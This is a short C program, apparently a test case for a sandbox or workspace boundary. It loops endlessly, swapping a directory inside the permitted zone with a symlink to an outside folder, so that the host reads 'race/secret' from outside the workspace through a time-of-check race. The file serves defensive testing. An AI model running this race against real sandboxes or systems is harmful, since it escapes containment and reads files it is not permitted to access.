// attempt: swap a folder and a link for each other while the host lists it and reads from it
// wall: workspace
// control: follow
// proof: secret
// then: list and read race/secret again and again meanwhile
#include "escape.h"

int main(void) {
	if (chdir(target("ZONE")) < 0 || mkdir("race", 0777) < 0 || mkdir("race/sub", 0777) < 0) return stopped("mkdir");
	for (printf("racing\n"), fflush(stdout);;) {
		if (rename("race", "was") < 0 || symlink(target("OUTSIDE_FOLDER"), "race") < 0) return stopped("symlink");
		sched_yield();
		if (unlink("race") < 0 || rename("was", "race") < 0) return stopped("rename");
	}
}
